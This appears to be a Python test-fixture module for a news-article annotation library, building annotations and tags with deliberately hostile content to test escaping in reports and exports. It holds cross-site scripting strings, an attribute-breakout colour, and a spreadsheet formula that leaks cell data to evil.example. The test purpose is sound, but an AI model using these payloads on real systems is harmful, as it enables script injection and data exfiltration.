"""Reports and interchange; shared builders for a library holding hostile text."""

from __future__ import annotations

from dataclasses import dataclass

from xiaomi_reader.core.articles import ParsedArticle
from xiaomi_reader.core.records import Annotation, Link, Tag
from xiaomi_reader.store.library import Library

# A note that tries every trick: markup, a script, quotes, an ampersand, a tab and newlines.
HOSTILE_NOTE = (
    "He wrote \"<script>alert('x')</script>\" & left.\tTabbed\n"
    '<img src="http://evil.example/x.png" onerror="alert(1)"> '
    '[click](javascript:alert(1)) <a href="http://evil.example">x</a>\n'
    "# not a heading"
)
FORMULA_NOTE = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")'
LINK_NOTE = 'Defense or State? <b>"mix-up"</b> & more'
HOSTILE_TAG = "<em>Dubious</em> & co"
# A colour that tries to break out of a style attribute.
HOSTILE_COLOUR = '#123456" onmouseover="alert(1)'

# An article with an astral character before its quote: offsets are code points.
EMOJI_ARTICLE = ParsedArticle(
    text="🙂 Lead paragraph. The minister said the deal was “signed yesterday”; "
    "officials later denied it.\n\nSecond paragraph with more words in it to read.",
    title='Emoji <i>"title"</i> | & co',
    date="2021-03-12",
    file_name="emoji.txt",
)

DEFENSE = "US Department of Defense"
STATE = "US Department of State"
ATTRACTIVE = "very attractive"
SIGNED = "signed yesterday"


@dataclass(frozen=True)
class Built:
    """What :func:`build` put into a library."""

    defense: Annotation  # 001, Claim, hostile note
    state: Annotation  # 001, Contradiction + hostile tag, formula note
    attractive: Annotation  # 000, untagged, note starting with "-"
    signed: Annotation  # emoji article, Claim
    contradicts: Link  # state contradicts defense
    supports: Link  # attractive supports defense
    dubious: Tag
    titles: dict[str, str]  # short key → article title


def article_id(library: Library, title_start: str) -> int:
    return next(a.id for a in library.articles() if a.title.startswith(title_start))


def annotate(library: Library, article: int, quote: str, **kwargs: object) -> Annotation:
    text = library.article(article).text
    start = text.index(quote)
    return library.add_annotation(article, start, start + len(quote), **kwargs)  # type: ignore[arg-type]


def build(library: Library) -> Built:
    """Annotate the bundled articles (and one with an emoji) through the library's API."""
    library.import_article(EMOJI_ARTICLE)
    claim, contradiction = library.tags()[:2]
    dubious = library.add_tag(HOSTILE_TAG, HOSTILE_COLOUR)
    why = article_id(library, "This is why")
    press = article_id(library, "Xiaomi will press")
    emoji = article_id(library, "Emoji")

    defense = annotate(library, why, DEFENSE, tag_ids=[claim.id])
    defense = library.set_note(defense.id, HOSTILE_NOTE)
    state = annotate(library, why, STATE, tag_ids=[contradiction.id, dubious.id])
    state = library.set_note(state.id, FORMULA_NOTE)
    attractive = annotate(library, press, ATTRACTIVE, note="-1 + 2 is not a formula")
    signed = annotate(library, emoji, SIGNED, tag_ids=[claim.id], note="@SUM(A1)")
    contradicts = library.add_link(state.id, defense.id, "contradicts", note=LINK_NOTE)
    supports = library.add_link(attractive.id, defense.id, "supports")
    titles = {a.title.split()[0].lower(): a.title for a in library.articles()}
    return Built(defense, state, attractive, signed, contradicts, supports, dubious, titles)


def orphan_item(exact: str = "words that appear in no article at all") -> dict[str, object]:
    """A W3C annotation on an unknown page whose quote no article holds."""
    return {
        "@context": "http://www.w3.org/ns/anno.jsonld",
        "id": "urn:uuid:00000000-0000-4000-8000-0000000000aa",
        "type": "Annotation",
        "motivation": "commenting",
        "body": [
            {"type": "TextualBody", "purpose": "tagging", "value": "claim"},
            {"type": "TextualBody", "purpose": "commenting", "value": "Lost <b>note</b>"},
        ],
        "target": {
            "type": "SpecificResource",
            "source": "https://example.org/gone.html",
            "selector": [
                {
                    "type": "TextQuoteSelector",
                    "exact": exact,
                    "prefix": "before ",
                    "suffix": " after",
                },
                {"type": "TextPositionSelector", "start": 10, "end": 10 + len(exact)},
            ],
        },
    }
